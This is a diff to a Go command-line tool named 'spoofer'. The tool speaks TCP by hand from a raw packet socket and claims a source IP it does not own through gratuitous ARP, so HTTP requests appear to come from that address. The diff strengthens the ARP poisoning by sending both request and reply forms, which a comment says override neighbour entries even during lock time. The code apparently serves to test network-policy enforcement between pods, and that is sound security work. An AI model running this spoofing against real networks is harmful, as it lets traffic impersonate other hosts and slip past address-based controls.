@@ -6,8 +6,8 @@
 //	spoofer get -src IP -gw IP [-dst IP:PORT] [-H 'K: V']... [-timeout D] [-if NAME] PATH
 //
 // get speaks TCP by hand from an AF_PACKET socket on the interface: it claims
-// -src in ARP (a gratuitous reply every 200 ms, and an answer to every
-// request for it), resolves the gateway's MAC, sends a SYN from -src to -dst
+// -src in ARP (a gratuitous request and reply every 200 ms, and an answer to
+// every request for it), resolves the gateway's MAC, sends a SYN from -src to -dst
 // through the gateway, reads the SYN-ACK off the wire, acknowledges it, sends
 // "GET PATH" with the headers and reads the answer until the server closes.
 // The pod's own kernel never sees the connection: it does not own -src (or,
@@ -69,7 +69,7 @@ func main() {
 type result struct {
 	Src        string `json:"src"`
 	GatewayMAC string `json:"gateway_mac,omitempty"`
-	ARPClaims  int    `json:"arp_claims"`  // gratuitous replies sent
+	ARPClaims  int    `json:"arp_claims"`  // gratuitous request+reply pairs sent
 	ARPAnswers int    `json:"arp_answers"` // requests for src answered
 	SYNs       int    `json:"syns"`
 	SynAck     bool   `json:"synack"` // the server's SYN-ACK reached us
@@ -198,7 +198,11 @@ func (c *conn) run(lookupFrom netip.Addr, req []byte, deadline time.Time) {
 	for time.Now().Before(deadline) && !c.done {
 		now := time.Now()
 		if now.Sub(lastClaim) >= claimEvery {
-			c.sendARP(2, c.src, broadcast, c.src) // gratuitous reply: src is at our MAC
+			// Gratuitous ARP in both forms (RFC 5227): a request and a
+			// reply whose target is the sender. The kernel lets these
+			// override a neighbour entry even within its lock time.
+			c.sendARP(1, c.src, zeroMAC, c.src)
+			c.sendARP(2, c.src, c.mac, c.src)
 			c.res.ARPClaims++
 			lastClaim = now
 		}
@@ -357,7 +361,8 @@ func (c *conn) send(dstMAC net.HardwareAddr, ethType uint16, payload []byte) {
 	_ = unix.Sendto(c.fd, f, 0, sa) // a lost frame is the attacker's loss, retried on schedule
 }
 
-// sendARP sends an ARP packet saying spa is at our MAC, to tha/tpa.
+// sendARP sends an ARP packet saying spa is at our MAC, to tha/tpa
+// (broadcast for requests and gratuitous replies).
 func (c *conn) sendARP(op uint16, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) {
 	a := make([]byte, 0, 28)
 	a = append(a, 0, 1, 8, 0, 6, 4)
@@ -368,7 +373,7 @@ func (c *conn) sendARP(op uint16, spa netip.Addr, tha net.HardwareAddr, tpa neti
 	a = append(a, tha...)
 	a = append(a, t4[:]...)
 	to := broadcast
-	if op == 2 && !bytes.Equal(tha, broadcast) {
+	if op == 2 && !bytes.Equal(tha, c.mac) { // an answer goes to who asked; a gratuitous one to all
 		to = tha
 	}
 	c.send(to, unix.ETH_P_ARP, a)
